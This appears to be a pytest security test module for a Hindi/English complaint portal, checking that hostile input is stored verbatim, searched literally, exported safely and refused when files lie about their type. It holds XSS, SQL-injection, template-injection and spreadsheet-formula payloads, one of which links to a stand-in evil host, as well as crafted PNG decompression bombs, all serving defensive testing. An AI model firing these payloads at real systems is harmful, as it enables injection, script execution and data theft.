"""Hostile input without a browser: XSS, markdown, SQL and template strings are kept verbatim and
harm no table; files that lie about their type are refused with the right message and leave nothing."""
from __future__ import annotations

import csv
import functools
import io
import os
import struct
import zlib

import pytest
from PIL import Image
from streamlit.testing.v1 import AppTest

from lib.casework import actions, detail, queue
from lib.staff import signin
from lib.core.config import load_settings
from lib.citizen.filing import TEXT_LIMITS, UploadedFile, file_complaint, load_form_choices
from lib.core.i18n import t
from lib.core.problems import InvalidInput, Problem
from lib.ops.startup import open_portal_database
from lib.citizen.uploads import MAX_IMAGE_PIXELS, MAX_UPLOAD_BYTES
from tests.pdf_samples import pages_pdf
from tests.conftest import ENGINES, jpeg_bytes, make_form
from tests.citizen.test_pages import fill_valid_form

pytestmark = pytest.mark.engines   # the data layer and the form, on DuckDB and on PostgreSQL

TRACK_URL = "https://esachivalaya.example/track_complaint"

# One sentence of Devanagari with conjuncts and matras, repeated past every limit of the form.
LONG_DEVANAGARI = ("श्रीमान् उपायुक्त महोदय, हमारे गाँव की क्षतिग्रस्त नाली से गंदा पानी घरों में घुस रहा है। " * 80).strip()

HOSTILE_TEXT = {
    "script_tag": "<script>alert(1)</script>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "svg_onload": '"><svg onload=alert(1)>',
    "js_url": "javascript:alert(1)",
    "md_link": "[click](javascript:alert(1))",
    "md_beacon": "![x](http://127.0.0.1:9/beacon.png)",
    "md_format": "**bold** _it_ # heading\n# heading\n<b>b</b>",
    "sql_drop": "'; DROP TABLE complaints; --",
    "sql_or": "' OR '1'='1",
    "sql_delete": "Robert'); DELETE FROM users;--",
    "templates": "{{7*7}} ${7*7} {0.__class__} {name} %s %(x)s",
    "control_chars": "नाम\x00बीच\x01में\x07 \x1b[31mलाल\x1b[0m\x08\x7f टैब\tपंक्ति\r\nअगली",
    "rtl_override": "राम \u202egpj.exe\u202c कुमार \u200f\u200e\u2066x\u2069",
    "long_devanagari": LONG_DEVANAGARI,
}
# Email is checked for a plausible shape, so only payloads that are valid addresses can reach it.
HOSTILE_EMAILS = [
    "<script>alert(1)</script>@evil.in",
    '"><svg/onload=alert(1)>@evil.in',
    "'OR'1'='1@evil.in",
    "x');DELETE-FROM-users;--@evil.in",
    "{{7*7}}${7*7}@evil.in",
]
FIELD_ATTRIBUTE = {"name": "citizen_name", "subject": "subject", "description": "description",
                   "locality": "locality"}
FILLER = "— गली की नाली टूटी है, कृपया मरम्मत करवाएँ"


def fitting(field: str, payload: str) -> str:
    """The payload within the field's length limits: padded with plain text when too short for the
    field, cut when too long (without trailing space, which the form trims)."""
    low, high = TEXT_LIMITS[field]
    value = payload if len(payload) >= low else f"{payload} {FILLER}"
    return value[:high].rstrip()


# ---- a shared portal database per engine (one per module: filing is cheap, opening a database is not) ----

@pytest.fixture(scope="module", params=ENGINES)
def portal(request, tmp_path_factory):
    """The portal's database on DuckDB, then on PostgreSQL, with the demo users; its settings and form
    choices. Only this module's tests write to it, and each looks at what its own filings changed."""
    engine = request.param
    folder = tmp_path_factory.mktemp(f"hostile-{engine}")
    url = cluster = None
    if engine == "postgres":
        cluster = request.getfixturevalue("pg_cluster")
        url = cluster.database(template=request.getfixturevalue("pg_template"))
        env = {"ESACHIVALAYA_DB": url, "ESACHIVALAYA_DATA_DIR": str(folder)}
    else:
        env = {"ESACHIVALAYA_DB": str(folder / "portal.duckdb")}
    settings = load_settings({}, env={**env, "ESACHIVALAYA_DEMO": "0"})
    con = open_portal_database(settings)
    signin.create_demo_users(con)
    yield con, settings, load_form_choices(con)
    con.close()
    if url:
        cluster.drop(url)


@pytest.fixture(scope="module")
def dc(portal):
    return signin.active_user(portal[0], "dc_rewari")


def table_counts(con) -> dict[str, int]:
    """Every table of the database with its row count: a dropped table or deleted rows show up."""
    with con.cursor() as cur:
        # information_schema reads the same on both engines (DuckDB's schema is main, PostgreSQL's public).
        names = [r[0] for r in cur.execute(
            "SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema()"
            " AND table_type = 'BASE TABLE' ORDER BY 1").fetchall()]
        counts = " UNION ALL ".join(f"SELECT '{n}', count(*) FROM \"{n}\"" for n in names)
        return dict(cur.execute(counts).fetchall())


def stored_uploads(settings) -> set[str]:
    return {p.name for p in settings.uploads_dir.iterdir()} if settings.uploads_dir.exists() else set()


FILED = {"complaints": 1, "complaint_events": 1, "documents": 1, "sms_outbox": 1}


def changes(before: dict, after: dict) -> dict:
    return {k: after.get(k, 0) - before.get(k, 0) for k in before.keys() | after.keys()
            if after.get(k, 0) != before.get(k, 0) or k not in after}


# ---- free text: verbatim, and no harm done ----

@pytest.mark.parametrize("field", list(FIELD_ATTRIBUTE))
@pytest.mark.parametrize("payload", list(HOSTILE_TEXT.values()), ids=list(HOSTILE_TEXT))
def test_hostile_text_is_stored_verbatim_and_harms_no_table(portal, dc, field, payload):
    con, settings, choices = portal
    typed = fitting(field, payload)
    value = typed.replace("\x00", "")          # NUL alone is dropped (PostgreSQL's text cannot hold it)
    before = table_counts(con)
    ack = file_complaint(con, settings, make_form(**{field: typed}), choices, track_url=TRACK_URL)

    assert changes(before, table_counts(con)) == FILED
    case = detail.find_case(con, dc, ack.tracking_no)
    assert getattr(case, FIELD_ATTRIBUTE[field]) == value
    with con.cursor() as cur:
        column = FIELD_ATTRIBUTE[field]
        stored = cur.execute(f"SELECT {column} FROM complaints WHERE id = ?", [ack.complaint_id]).fetchall()
    assert stored == [(value,)]


def test_a_nul_character_is_dropped_the_same_way_on_both_engines_and_fails_nothing(portal, dc):
    """PostgreSQL's text cannot hold NUL (DuckDB's can): a pasted one used to fail the whole filing,
    remark or search on PostgreSQL with a DataError. Now it is dropped and the rest kept, on both."""
    con, settings, choices = portal
    ack = file_complaint(con, settings, make_form(name="सुनीता\x00 देवी", subject="नाली-७३१ पानी\x00 नहीं आ रहा"),
                         choices, track_url=TRACK_URL)
    case = detail.find_case(con, dc, ack.tracking_no)
    assert (case.citizen_name, case.subject) == ("सुनीता देवी", "नाली-७३१ पानी नहीं आ रहा")
    # A remark does not pass the form's checks: the data layer itself keeps it storable.
    actions.start_scrutiny(con, dc, ack.complaint_id, case.version, "जाँच\x00 शुरू")
    case = detail.find_case(con, dc, ack.tracking_no)
    shown = [row[3] for row in detail.history_rows(case, "hi", choices.departments)]
    assert any(remark.replace("\x00", "") == "जाँच शुरू" for remark in shown), shown
    # A search with a NUL in it finds the text the officer sees instead of failing the queue page.
    found = queue.load_queue(con, dc, queue.QueueFilters(text="नाली-७३१ पानी\x00 नहीं"), "hi")
    assert [r.tracking_no for r in found.rows] == [ack.tracking_no]


@pytest.mark.parametrize("email", HOSTILE_EMAILS)
def test_hostile_but_valid_email_is_stored_verbatim(portal, dc, email):
    con, settings, choices = portal
    before = table_counts(con)
    ack = file_complaint(con, settings, make_form(email=email), choices, track_url=TRACK_URL)
    assert changes(before, table_counts(con)) == FILED
    assert detail.find_case(con, dc, ack.tracking_no).email == email


def test_text_past_the_limit_is_refused_not_cut(portal):
    con, settings, choices = portal
    before = table_counts(con)
    too_long = LONG_DEVANAGARI[:TEXT_LIMITS["description"][1]] + "क"
    with pytest.raises(InvalidInput) as caught:
        file_complaint(con, settings, make_form(description=too_long), choices, track_url=TRACK_URL)
    assert caught.value.problems == [Problem("description", "error.too_long")]
    assert table_counts(con) == before


@pytest.mark.parametrize("payload", ["' OR '1'='1", "'; DROP TABLE complaints; --", "%", "_", "\\"])
def test_queue_search_for_sql_or_wildcards_finds_only_the_literal_text(portal, dc, payload):
    con, settings, choices = portal
    marker = f"खोज-{abs(hash(payload)) % 10**8}"
    ack = file_complaint(con, settings, make_form(subject=f"{marker} {payload} पानी"), choices,
                         track_url=TRACK_URL)
    file_complaint(con, settings, make_form(subject=f"{marker} बिना चिह्न पानी"), choices, track_url=TRACK_URL)
    found = queue.load_queue(con, dc, queue.QueueFilters(text=f"{marker} {payload}"), "hi")
    assert [r.tracking_no for r in found.rows] == [ack.tracking_no]
    # The search text alone matches exactly the complaints holding it, not every complaint.
    everything = queue.load_queue(con, dc, queue.QueueFilters(), "hi").total
    holding = queue.load_queue(con, dc, queue.QueueFilters(text=payload), "hi").total
    assert 1 <= holding < everything


@pytest.mark.parametrize("subject", ['=HYPERLINK("http://evil.example/?"&A1,"देखें")', '@SUM(1+1)*cmd|"/C calc"!A0',
                                     "+91 पानी नहीं", "-5 दिन से बिजली नहीं"])
def test_queue_export_hands_no_formula_to_a_spreadsheet(portal, dc, subject):
    con, settings, choices = portal
    marker = f"निर्यात-{abs(hash(subject)) % 10**8}"
    file_complaint(con, settings, make_form(subject=subject, description=f"{marker} {FILLER}"), choices,
                   track_url=TRACK_URL)
    export = queue.export_csv(con, dc, queue.QueueFilters(text=marker), "en")
    header, row = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"))))
    cell = row[header.index("Subject")]
    assert cell[0] not in "=+-@\t\r" and cell.endswith(subject)


@pytest.mark.parametrize("payload", [HOSTILE_TEXT[k] for k in ("img_onerror", "sql_delete", "md_beacon")])
def test_hostile_officer_remark_is_kept_verbatim_in_the_history(portal, dc, payload):
    con, settings, choices = portal
    ack = file_complaint(con, settings, make_form(), choices, track_url=TRACK_URL)
    before = table_counts(con)
    version = detail.find_case(con, dc, ack.tracking_no).version
    actions.start_scrutiny(con, dc, ack.complaint_id, version, payload)
    assert before["users"] == table_counts(con)["users"] > 0
    case = detail.find_case(con, dc, ack.tracking_no)
    assert payload in [row[3] for row in detail.history_rows(case, "hi", choices.departments)]


# ---- files that lie about what they are ----

def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@functools.cache
def bomb_png(side: int) -> bytes:
    """A real, valid black-and-white PNG of side x side pixels that is tiny on disk."""
    row = b"\x00" + bytes((side + 7) // 8)
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)          # 1 bit grey
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header)
            + png_chunk(b"IDAT", zlib.compress(row * side, 9)) + png_chunk(b"IEND", b""))


@functools.cache
def oversized_png() -> bytes:
    """A genuine photo-sized PNG of noise (8.7 MP, allowed), just over the 25 MB limit."""
    side = 2960
    im = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
    buf = io.BytesIO()
    im.save(buf, "PNG", compress_level=0)
    assert len(buf.getvalue()) > MAX_UPLOAD_BYTES
    return buf.getvalue()


HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
LYING_FILES = {
    # id: (file name as the browser sends it, bytes, expected catalog key)
    "html_as_jpg": ("aadhaar.jpg", lambda: HTML_PAGE, "error.file_type"),
    "svg_as_png": ("photo.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
                   "error.file_type"),
    "pdf_header_then_script": ("id.pdf", lambda: b"%PDF-1.7\n<script>alert(1)</script>\n", "error.file_damaged"),
    "jpeg_magic_then_html": ("id.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML_PAGE, "error.file_damaged"),
    # Refused from the header's pixel count, before anything is decoded.
    "bomb_20000px": ("id.png", lambda: bomb_png(20_000), "error.image_too_big"),
    "bomb_8000px": ("id.png", lambda: bomb_png(8_000), "error.image_too_big"),
    "oversized_image": ("id.png", oversized_png, "error.file_too_large"),
    "oversized_jpeg_padding": ("id.jpg", lambda: jpeg_bytes(40, 40) + bytes(MAX_UPLOAD_BYTES),
                               "error.file_too_large"),
    "zero_bytes": ("id.jpg", lambda: b"", "error.file_empty"),
}


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_the_bombs_are_small_on_disk_and_really_that_big():
    assert len(bomb_png(20_000)) < 200_000
    width, height = struct.unpack(">II", bomb_png(8_000)[16:24])     # the IHDR chunk, as a decoder reads it
    assert (width, height) == (8_000, 8_000)


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize("field", ["id_document", "photos"])
@pytest.mark.parametrize("lie", list(LYING_FILES))
def test_a_file_that_lies_is_refused_and_nothing_is_stored(portal, field, lie):
    con, settings, choices = portal
    file_name, make, key = LYING_FILES[lie]
    if field == "photos" and make().startswith(b"%PDF"):
        key = "error.file_type"            # a photo must be a picture, so a PDF is the wrong type there
    upload = UploadedFile(file_name, make())
    form = make_form(id_document=upload) if field == "id_document" else make_form(photos=(upload,))
    before, files_before = table_counts(con), stored_uploads(settings)
    with pytest.raises(InvalidInput) as caught:
        file_complaint(con, settings, form, choices, track_url=TRACK_URL)
    assert [(p.field, p.key) for p in caught.value.problems] == [(field, key)]
    assert table_counts(con) == before
    assert stored_uploads(settings) == files_before


VALID_PDF = pages_pdf(1)


def test_a_pdf_named_as_a_photo_is_refused_as_a_photo_but_taken_as_an_id_document(portal, dc):
    # The photos uploader takes .jpg/.png names only, and the officers' page draws photos as pictures:
    # a PDF that got through as a "photo" broke the whole complaint page for the DC.
    con, settings, choices = portal
    before, files_before = table_counts(con), stored_uploads(settings)
    with pytest.raises(InvalidInput) as caught:
        file_complaint(con, settings, make_form(photos=(UploadedFile("drain.jpg", VALID_PDF),)), choices,
                       track_url=TRACK_URL)
    assert caught.value.problems == [Problem("photos", "error.file_type")]
    assert table_counts(con) == before and stored_uploads(settings) == files_before
    ack = file_complaint(con, settings, make_form(id_document=UploadedFile("id.pdf", VALID_PDF)), choices,
                         track_url=TRACK_URL)
    # Kept only as the picture of its page (rendered on the server; no script in it can run).
    assert [d.content_type.split("/")[0] for d in detail.find_case(con, dc, ack.tracking_no).documents] == ["image"]


# ---- the public form, through AppTest ----


def app_counts() -> dict[str, int]:
    from lib.ui import connection          # the app's own cached connection, in this process
    return table_counts(connection())


def element_after(at: AppTest, widget_type: str, key: str):
    """The element drawn right after a widget, where the page puts that field's problems."""
    nodes = [n for n in at.main if not hasattr(n, "children")]
    index = next(i for i, n in enumerate(nodes) if n.type == widget_type and getattr(n, "key", None) == key)
    return nodes[index + 1] if index + 1 < len(nodes) else None


PAGE_TEXT_ELEMENTS = ("markdown", "caption", "title", "header", "subheader", "success", "info",
                      "warning", "error", "text", "code")


def test_hostile_text_typed_into_the_form_is_filed_verbatim_and_shown_only_as_plain_cells(app):
    fill_valid_form(app)
    typed = {"name": HOSTILE_TEXT["img_onerror"], "subject": fitting("subject", HOSTILE_TEXT["md_link"]),
             "description": fitting("description", HOSTILE_TEXT["script_tag"] + " " + HOSTILE_TEXT["md_beacon"]
                                    + " " + HOSTILE_TEXT["sql_drop"]),
             "locality": HOSTILE_TEXT["svg_onload"], "email": HOSTILE_EMAILS[1]}
    for field, value in typed.items():
        (app.text_area if field == "description" else app.text_input)(key=f"{field}_0").input(value)
    app.run()
    app.button(key="submit_complaint").click().run()
    assert not app.exception
    ack = app.session_state["acknowledgement"]

    from lib.ui import connection
    dc_office = signin.DEMO_USERS[0]         # the record decides scope; no account needed to read
    case = detail.find_case(connection(), dc_office, ack.tracking_no)
    assert (case.citizen_name, case.subject, case.description, case.locality, case.email) == tuple(typed.values())
    # The acknowledgement shows the subject in a plain table cell, and no citizen text anywhere else.
    summary = app.dataframe[0].value
    assert typed["subject"] in summary.iloc[:, 1].tolist()
    shown = [str(el.value) for kind in PAGE_TEXT_ELEMENTS for el in app.get(kind)]
    for value in typed.values():
        for fragment in ("<img", "<script", "javascript:", "beacon", "<svg", "DROP TABLE"):
            if fragment in value:
                assert not any(fragment in text for text in shown), (fragment, shown)


def lying_upload(name: str, make) -> tuple[str, bytes, str]:
    mime = {"jpg": "image/jpeg", "png": "image/png", "pdf": "application/pdf"}[name.rsplit(".", 1)[1]]
    return name, make(), mime


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_lying_files_are_refused_beside_the_upload_in_hindi_and_in_english(app):
    fill_valid_form(app)
    cases = [LYING_FILES[k] for k in ("html_as_jpg", "pdf_header_then_script", "oversized_image",
                                      "bomb_20000px", "zero_bytes")]
    for language in ("hi", "en"):
        app.radio(key="language_switch").set_value(language).run()
        for file_name, make, key in cases:
            app.file_uploader(key="id_document_0").set_value(lying_upload(file_name, make))
            app.run()
            app.button(key="submit_complaint").click().run()
            assert not app.exception
            message = element_after(app, "file_uploader", "id_document_0")
            params = ({"max_mb": MAX_UPLOAD_BYTES // (1024 * 1024)} if key == "error.file_too_large"
                      else {"max_mp": MAX_IMAGE_PIXELS // 1_000_000} if key == "error.image_too_big" else {})
            assert message is not None and message.type == "error", file_name
            assert message.value == t(language, key, **params), (language, file_name)
            assert app.error[0].value == t(language, "form.fix_problems", count=1)
    # A photo that lies is refused beside the photos, inside the (now open) optional section.
    app.file_uploader(key="id_document_0").set_value(("aadhaar.jpg", jpeg_bytes(), "image/jpeg"))
    app.file_uploader(key="photos_0").set_value([lying_upload(*LYING_FILES["html_as_jpg"][:2])])
    app.run()
    app.button(key="submit_complaint").click().run()
    assert element_after(app, "file_uploader", "photos_0").value == t("en", "error.file_type")
    assert app.expander[0].proto.expanded
    assert app_counts()["complaints"] == 0
    # Nothing the citizen typed is lost while they fix the file.
    assert app.text_input(key="name_0").value == "कमला देवी"
